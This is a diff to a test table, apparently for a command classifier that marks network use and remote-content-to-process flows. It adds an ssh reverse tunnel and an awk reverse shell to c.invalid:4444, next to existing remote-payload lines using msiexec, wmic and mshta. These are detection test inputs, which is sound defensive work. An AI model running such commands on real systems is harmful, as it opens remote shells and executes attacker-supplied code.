@@ -24,6 +24,13 @@ const CASES: readonly Case[] = [
   { line: 'certutil -hashfile u.exe SHA256', can: ['network'] },
   { line: 'msiexec /q /i https://c.invalid/a.msi', can: ['network'], flows: ['remote-content->process'] },
   { line: 'msiexec /i setup.msi' },
+  { line: 'ssh -N -R 2222:localhost:22 u@c.invalid', can: ['network'], flows: ['remote-content->process'] },
+  { line: 'ssh -N -L 2222:localhost:22 u@c.invalid', can: ['network'] },
+  {
+    line: `awk 'BEGIN { s = "/inet/tcp/0/c.invalid/4444"; while (s |& getline c) system(c) }'`,
+    can: ['network'],
+    flows: ['remote-content->process'],
+  },
   { line: 'wmic os get /format:"https://c.invalid/a.xsl"', can: ['network'], flows: ['remote-content->process'] },
   {
     line: `mshta 'javascript:GetObject("script:https://c.invalid/a.sct")'`,
